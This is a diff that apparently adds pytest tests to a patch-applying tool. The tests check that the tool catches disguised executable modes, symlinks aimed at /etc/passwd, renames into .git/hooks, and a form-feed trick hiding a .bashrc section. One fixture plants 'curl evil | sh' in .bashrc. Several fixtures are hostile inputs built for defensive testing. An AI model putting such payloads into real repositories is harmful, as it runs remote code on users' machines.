@@ -103,3 +103,95 @@ def test_a_patch_git_refuses_is_not_retried_with_gnu_patch(tmp_path: Path) -> No
 def test_cli_allow_exec_needs_apply(capsys: pytest.CaptureFixture[str]) -> None:
     code = run(["repair", "--allow-exec", "."])
     assert code == 2
+
+
+# Modes and line breaks as git reads them, not as a string compare or str.splitlines() would: git takes any
+# octal mode, keeps only the file type and the owner's x bit, and ends a line only at "\n".
+EXEC_ODD_MODES = [EXEC.replace("100755", mode) for mode in ("0100755", "100775", "100711")]
+LINK_OUT = LINK.replace("120000", "120777").replace("/etc/passwd", "../../outside")
+HIDDEN = GOOD + "--- /dev/null\f\n+++ b/.bashrc\n@@ -0,0 +1 @@\n+curl evil | sh\n"
+"""A form feed ends a line for str.splitlines(), not for git: the .bashrc section was part of mod.py's."""
+FF_NAME = "--- /dev/null\n+++ b/ok.py\fx\n@@ -0,0 +1 @@\n+a = 1\n"
+"""git writes `ok.py<FF>x`; a reader splitting at the form feed sees `ok.py`."""
+
+
+def _files(repo: Path) -> dict[str, tuple[bool, bool, bytes]]:
+    """Every path in the work tree (not .git/): (is a symlink, is executable, content or link target)."""
+    out = {}
+    for p in repo.rglob("*"):
+        rel = p.relative_to(repo).as_posix()
+        if rel == ".git" or rel.startswith(".git/") or (p.is_dir() and not p.is_symlink()):
+            continue
+        link = p.is_symlink()
+        data = os.readlink(p).encode() if link else p.read_bytes()
+        out[rel] = (link, not link and os.access(p, os.X_OK), data)
+    return out
+
+
+def _listed_paths(diffstat: str) -> set[str]:
+    return {line.rsplit(" | ", 1)[0].strip() for line in diffstat.splitlines() if " | " in line}
+
+
+@pytest.mark.parametrize("patch", EXEC_ODD_MODES, ids=["0100755", "100775", "100711"])
+def test_executable_in_any_mode_spelling_needs_allow_exec(tmp_path: Path, patch: str) -> None:
+    repo = _repo(tmp_path)
+    before = _files(repo)
+    with pytest.raises(UserError, match="makes run.sh executable"):
+        apply_to_tree(repo, patch)
+    assert _files(repo) == before
+    done = apply_to_tree(repo, patch, allow_exec=True)
+    assert os.access(repo / "run.sh", os.X_OK)
+    assert "run.sh | +1 -0" in done.diffstat
+
+
+def test_a_symlink_in_any_mode_spelling_is_refused(tmp_path: Path) -> None:
+    repo = _repo(tmp_path)
+    before = _files(repo)
+    with pytest.raises(UserError, match="makes link a symlink"):
+        apply_to_tree(repo, LINK_OUT, allow_exec=True)
+    assert _files(repo) == before
+    assert not os.path.lexists(repo / "link")
+
+
+def test_repointing_an_existing_symlink_is_refused(tmp_path: Path) -> None:
+    repo = _repo(tmp_path)
+    os.symlink("mod.py", repo / "link")
+    patch = "diff --git a/link b/link\n--- a/link\n+++ b/link\n@@ -1 +1 @@\n-mod.py\n\\ No newline at end of file\n+/etc/passwd\n\\ No newline at end of file\n"
+    with pytest.raises(UserError, match="symlink"):
+        apply_to_tree(repo, patch)
+    assert os.readlink(repo / "link") == "mod.py"
+
+
+@pytest.mark.parametrize("patch", [HIDDEN, FF_NAME], ids=["hidden-section", "name-with-form-feed"])
+def test_the_diffstat_lists_every_file_git_writes(tmp_path: Path, patch: str) -> None:
+    repo = _repo(tmp_path)
+    before = _files(repo)
+    done = apply_to_tree(repo, patch)
+    after = _files(repo)
+    written = {path for path in before.keys() | after.keys() if before.get(path) != after.get(path)}
+    assert written  # the patch did land
+    shown = {path.encode("unicode_escape").decode() if not path.isprintable() else path for path in written}
+    assert _listed_paths(done.diffstat) == shown, done.diffstat
+    assert f"{len(written)} file(s) changed" in done.diffstat
+
+
+def test_a_rename_is_listed_with_both_names_and_checked_on_both(tmp_path: Path) -> None:
+    repo = _repo(tmp_path)
+    rename = "diff --git a/mod.py b/lib.py\nsimilarity index 100%\nrename from mod.py\nrename to lib.py\n"
+    done = apply_to_tree(repo, rename)
+    assert (repo / "lib.py").read_text() == "x = 1\n" and not (repo / "mod.py").exists()
+    assert "mod.py => lib.py | +0 -0" in done.diffstat
+    into_git = rename.replace("lib.py", ".git/hooks/pre-commit").replace("mod.py", "lib.py")
+    with pytest.raises(UserError, match="inside .git/"):
+        apply_to_tree(repo, into_git)
+
+
+def test_a_tree_inside_another_repository_gets_the_patch_at_the_paths_checked(tmp_path: Path) -> None:
+    outer = _repo(tmp_path)  # e.g. a dotfiles repository in $HOME around the project folder
+    repo = outer / "project"
+    repo.mkdir()
+    (repo / "mod.py").write_text("x = 1\n")
+    done = apply_to_tree(repo, GOOD)
+    assert (repo / "mod.py").read_text() == "x = 2\ny = 3\n", "git skipped the file the diffstat lists"
+    assert _listed_paths(done.diffstat) == {"mod.py"}
+    assert (outer / "mod.py").read_text() == "x = 1\n"
